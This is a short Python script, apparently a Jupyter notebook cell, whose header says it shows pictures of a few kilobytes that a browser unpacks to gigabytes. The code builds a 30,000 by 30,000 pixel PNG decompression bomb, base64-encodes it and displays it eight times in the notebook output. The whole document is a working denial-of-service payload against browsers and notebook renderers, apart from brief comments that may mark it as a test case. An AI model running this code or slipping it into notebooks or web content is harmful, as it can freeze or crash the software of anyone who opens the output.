# tries: stop
# about: shows and pastes pictures of a few kB that a browser unpacks to gigabytes
# then: stop

import base64, struct, zlib
from IPython.display import display

def picture(width, height):
    rows = zlib.compressobj(9)
    data = b"".join(rows.compress(bytes(1 + width // 8)) for _ in range(height)) + rows.flush()
    parts = ((b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)), (b"IDAT", data), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(struct.pack(">I", len(d)) + n + d + struct.pack(">I", zlib.crc32(n + d)) for n, d in parts)

large = base64.b64encode(picture(30_000, 30_000)).decode()
for kind in ("image/png", "image/jpeg"):
    for _ in range(4):
        display({kind: large}, raw=True)
